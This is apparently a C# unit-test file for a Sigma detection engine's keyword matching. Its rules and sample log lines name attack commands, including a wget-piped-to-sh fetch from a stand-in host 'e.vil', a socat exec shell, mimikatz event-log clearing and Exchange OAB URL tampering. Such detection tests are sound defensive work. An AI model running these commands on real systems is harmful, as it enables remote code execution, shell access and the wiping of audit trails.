using static Bulwark.Scanners.Detection.Tests.Sigma.SigmaTestKit;

namespace Bulwark.Scanners.Detection.Tests.Sigma;

/// <summary>Keyword searches: a list of plain values searched in the event's raw text, and <c>'|all'</c>.</summary>
public sealed class KeywordTests
{
    [Fact]
    public void A_keyword_list_matches_when_any_keyword_appears_anywhere_in_the_line_ignoring_case()
    {
        var rule = Compile("""
            keywords:
                - 'event::clear'
                - 'event::drop'
            condition: keywords
            """);

        Assert.True(rule.Matches(Line("mimikatz # EVENT::Clear")));
        Assert.True(rule.Matches(Line("event::drop")));
        Assert.False(rule.Matches(Line("event::list")));
    }

    [Fact]
    public void Keywords_search_the_raw_text_not_the_fields()
    {
        var rule = Compile("""
            keywords:
                - 'REPLACE'
            condition: keywords
            """);

        Assert.True(rule.Matches(EventWithRaw("crontab[12]: (root) REPLACE (root)", ("msg", "other"))));
        Assert.False(rule.Matches(EventWithRaw("crontab[12]: (root) LIST (root)", ("msg", "REPLACE"))));
    }

    [Fact]
    public void Wildcards_inside_keywords_still_apply()
    {
        var rule = Compile("""
            keywords:
                - 'Trojan*FOUND'
            condition: keywords
            """);

        Assert.True(rule.Matches(Line("/tmp/x: Unix.Trojan.Mirai-1 FOUND")));
        Assert.False(rule.Matches(Line("/tmp/x: Unix.Trojan.Mirai-1 OK")));
    }

    [Fact]
    public void Each_of_several_wildcard_keywords_matches_on_its_own()
    {
        var rule = Compile("""
            keywords:
                - 'wget * - http* | sh'
                - 'socat exec:*'
                - 'ping -c 2 *; grep * /proc/net/arp >/tmp/gx'
                - 'python -m SimpleHTTPServer'
            condition: keywords
            """);

        Assert.True(rule.Matches(Line("bob: wget -q - http://e.vil/x | sh")));
        Assert.True(rule.Matches(Line("bob: SOCAT EXEC:'bash -li'")));
        Assert.True(rule.Matches(Line("ping -c 2 10.0.0.1; grep 10.0.0.1 /proc/net/arp >/tmp/gx")));
        Assert.True(rule.Matches(Line("python -m SimpleHTTPServer 8000")));
        Assert.False(rule.Matches(Line("bob: wget -q - http://e.vil/x | less")));
        Assert.False(rule.Matches(Line("ping -c 2 10.0.0.1; grep 10.0.0.1 /proc/net/route >/tmp/gx")));
    }

    [Fact]
    public void An_all_keyword_map_needs_every_value_in_the_line()
    {
        var rule = Compile("""
            keywords_cmdlet:
                '|all':
                    - 'OabVirtualDirectory'
                    - ' -ExternalUrl '
            condition: keywords_cmdlet
            """);

        Assert.True(rule.Matches(Line("Set-OabVirtualDirectory -ExternalUrl http://x")));
        Assert.False(rule.Matches(Line("Set-OabVirtualDirectory -InternalUrl http://x")));
    }

    [Fact]
    public void Keywords_and_field_searches_combine_in_one_condition()
    {
        var rule = Compile("""
            selection:
                type: 'EXECVE'
            keywords:
                - 'truncate'
            condition: selection and keywords
            """);

        Assert.True(rule.Matches(EventWithRaw("type=EXECVE argc=3 a0=\"truncate\"", ("type", "EXECVE"))));
        Assert.False(rule.Matches(EventWithRaw("type=EXECVE argc=3 a0=\"ls\"", ("type", "EXECVE"))));
        Assert.False(rule.Matches(EventWithRaw("type=PATH truncate", ("type", "PATH"))));
    }
}
